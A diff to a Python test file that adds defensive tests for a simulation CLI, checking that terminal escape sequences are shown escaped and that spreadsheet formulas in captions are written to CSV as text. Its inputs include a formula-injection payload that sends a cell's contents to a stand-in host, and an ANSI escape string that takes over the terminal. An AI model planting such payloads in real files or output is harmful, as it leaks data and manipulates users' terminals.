@@ -13,8 +13,11 @@ from pathlib import Path
 
 import pytest
 from hostile_helpers import run_cli
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from sim.safe_io import FolderLock, StagedFiles
+from sim.cli.common import UNSHOWN, shown
+from sim.safe_io import FORMULA_START, FolderLock, StagedFiles, csv_read, csv_text
 
 
 def refused(code: int, err: str, words: str) -> None:
@@ -279,3 +282,58 @@ def test_a_replay_into_a_sweep_folder_and_a_branch_into_a_run_folder_are_refused
     )
     refused(code, err, "holds a replay's run")
     assert sorted(p.name for p in sweep.iterdir()) == ["journal.jsonl"]
+
+
+# ---------------------------------------------------------------------------- text as text
+def test_a_title_with_terminal_escapes_is_shown_not_obeyed(branch_file, tmp_path, capsys):
+    """An ANSI escape in a branch title was printed raw: the terminal obeyed it (a colour, a
+    window title, a cursor move). Everything a command prints is escaped."""
+    text = branch_file.read_text(encoding="utf-8")
+    branch_file.write_text(
+        text.replace(
+            "title: What if the bridge held?", 'title: "Held?\\e[2J\\e]0;owned\\a\\u202e"'
+        ),
+        encoding="utf-8",
+    )
+    code, stdout, err = run_cli(
+        ["branch", str(branch_file), "--headless", "--out", str(tmp_path / "o")], capsys
+    )
+    assert code == 0, err
+    assert "Held?\\x1b[2J\\x1b]0;owned\\x07\\u202e" in stdout
+    assert not UNSHOWN.search(stdout + err)
+
+
+def test_a_caption_that_is_a_formula_is_text_in_the_csv(short_scenario, tmp_path, capsys):
+    """A caption `=HYPERLINK(...)` landed in events.csv as a formula a spreadsheet runs."""
+    import csv
+
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Click for the sources")'
+    text = short_scenario.read_text(encoding="utf-8")
+    start = text.index('    text: "5 Sep 2022.')
+    end = text.index("\n", start)
+    hostile = tmp_path / "hostile.yaml"
+    hostile.write_text(text[:start] + f"    text: {json.dumps(formula)}" + text[end:], "utf-8")
+    out = tmp_path / "o"
+    code, _, err = run_cli([str(hostile), "--headless", "--compare", "--out", str(out)], capsys)
+    assert code == 0, err
+    with (out / "events.csv").open(encoding="utf-8", newline="") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    assert "'" + formula in cells
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
+
+
+@settings(max_examples=200, deadline=None, derandomize=True)
+@given(st.text())
+def test_shown_text_holds_nothing_a_terminal_obeys(text):
+    out = shown(text)
+    assert not UNSHOWN.search(out)
+    if not UNSHOWN.search(text):
+        assert out == text  # plain text (any script, any emoji) is left as it is
+
+
+@settings(max_examples=200, deadline=None, derandomize=True)
+@given(st.text())
+def test_a_csv_cell_never_starts_a_formula_and_reads_back(text):
+    cell = csv_text(text)
+    assert not cell.startswith(FORMULA_START)
+    assert csv_read(cell) == text
